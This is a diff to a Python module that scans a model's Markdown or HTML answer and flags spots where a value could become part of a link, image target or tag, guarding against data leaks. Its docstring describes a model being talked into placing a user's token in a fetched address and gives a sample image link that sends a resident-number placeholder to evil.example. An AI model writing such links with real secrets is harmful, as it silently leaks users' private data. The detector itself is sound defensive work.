@@ -1,14 +1,17 @@
-"""Where in an answer a value may be put: plain text only (값을 되돌려도 되는 자리).
+r"""Where in an answer a value may be put: plain text only (값을 되돌려도 되는 자리).
 
 A model can be talked into writing somebody's token into an address that a browser then fetches, so that the value would
 leave by itself: ![x](https://evil.example/?q=⟨주민번호1⟩). What lives here: a small automaton that reads the answer as a
 Markdown and HTML renderer would, and says whether the present place is plain. It errs on the side of "not plain":
 
-- a word that holds `//`, `www.`, a scheme (`mailto:`, `data:` …) or a bare domain with a path, up to ASCII white space
-  (other white space does not end a link in cmark-gfm);
+- a word that holds `//`, `\\`, `www.`, a scheme (`mailto:`, `tel:` …), or a host (a dot and a letter of any script, or four
+  numbers) with a path, up to ASCII white space (other white space does not end a link in cmark-gfm);
 - Markdown link and image targets `](…)`, with angle brackets, escapes and nested parentheses, up to a blank line;
 - Markdown reference definitions `[x]: …`;
 - everything inside an HTML tag, quoted values with `>` in them too, and inside <script> and <style>.
+
+What comes before a place is read by `Place`; what follows, by `goes_on`: a value followed by `.evil.example` or `@` would
+be the beginning of an address itself.
 
 Any way to cut the answer into pieces gives the same places. What does not live here: tokens (`privacy/stream.py`).
 """
@@ -18,10 +21,18 @@ from enum import Enum, auto
 from typing import Final
 
 _SCHEMES: Final = frozenset(
-    {"http", "https", "ftp", "ftps", "mailto", "data", "javascript", "vbscript", "file", "blob", "ws", "wss", "xmpp"}
-)
+    {
+        "http", "https", "ftp", "ftps", "sftp", "mailto", "data", "javascript", "vbscript", "file", "blob", "ws", "wss",
+        "xmpp", "tel", "sms", "smsto", "mms", "callto", "sip", "sips", "skype", "facetime", "intent", "market", "geo",
+        "irc", "ldap", "smb", "ssh", "magnet", "urn",
+    }
+)  # fmt: skip
 #: Runs of characters that change nothing but what came last, or one character that may.
-_piece = re.compile(r"""[^\x00-\x40\[-`{-\x7f]+|.""", re.DOTALL)
+_piece = re.compile(r"""[^\x00-\x40\[-`{-\x7f。．｡]+|.""", re.DOTALL)
+#: What a browser takes for the dot of a host (UTS 46 §4).
+_WIDE_DOTS: Final = frozenset("。．｡")
+_DOTS: Final = _WIDE_DOTS | {"."}
+_QUAD: Final = 3  # dots in an address of numbers
 _ENDS_WORD: Final = frozenset(" \t\n\r\f\v")
 _ASCII: Final = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
 _LETTERS: Final = frozenset(_ASCII)
@@ -30,6 +41,26 @@ _MARGIN: Final = frozenset(" \t>*+-0123456789.)")
 _MARGIN_OR_BLANK: Final = "".join(_MARGIN | _ENDS_WORD)
 _brackets = re.compile(r"[<\[\]]")
 _RAW: Final = frozenset({"script", "style"})
+
+
+def goes_on(text: str, at: int) -> bool | None:
+    """Whether what stands before `at`, the end of a run of letters and digits, goes on as a host or a mail address.
+
+    None: the text must go on before that can be told. A wide dot followed by a letter of another script is the full stop
+    of a Chinese or Japanese sentence.
+    """
+    if at == len(text):
+        return None
+    if text[at] == "@":
+        return True
+    if text[at] not in _DOTS:
+        return False
+    if at + 1 == len(text):
+        return None
+    after = text[at + 1]
+    if text[at] in _WIDE_DOTS:
+        return after.isascii() and after.isalnum()
+    return after.isalnum() or after in "_⟨"
 
 
 class _Mode(Enum):
@@ -48,7 +79,7 @@ class Place:
         "_blank",
         "_deep",
         "_domain",
-        "_dot",
+        "_dots",
         "_escaped",
         "_label",
         "_last",
@@ -84,8 +115,8 @@ class Place:
     def _new_word(self) -> None:
         self._link = False
         self._letters = ""  # the run of ASCII letters that ends here, at most eleven of them
-        self._dot = False  # a dot after a letter or digit
-        self._domain = False  # … and a letter after that
+        self._dots = 0  # dots after a letter, a digit or a token
+        self._domain = False  # … and a letter after one of them, or a digit after the third
 
     @property
     def plain(self) -> bool:
@@ -164,7 +195,7 @@ class Place:
         if len(c) > 1 or c.isalpha():
             rest = c.rstrip(_ASCII)
             self._letters = (c[len(rest) :] if rest else self._letters + c)[-11:]
-            self._domain = self._domain or (self._dot and any(x in _LETTERS for x in c))
+            self._domain = self._domain or (self._dots > 0 and any(x.isalpha() for x in c))
             return
         if c == "/":
             self._link = self._link or last == "/" or self._domain
@@ -172,9 +203,13 @@ class Place:
             self._link = self._link or self._domain
         elif c == ":":
             self._link = self._link or self._letters.lower() in _SCHEMES
-        elif c == ".":
+        elif c == "\\":
+            self._link = self._link or last == "\\"
+        elif c in _DOTS:
             self._link = self._link or self._letters.lower().endswith("www")
-            self._dot = self._dot or (last.isascii() and last.isalnum())
+            self._dots += last.isalnum() or last == "⟩"
+        elif c.isdigit():
+            self._domain = self._domain or self._dots >= _QUAD
         self._letters = ""
 
     def _target(self, c: str) -> None:
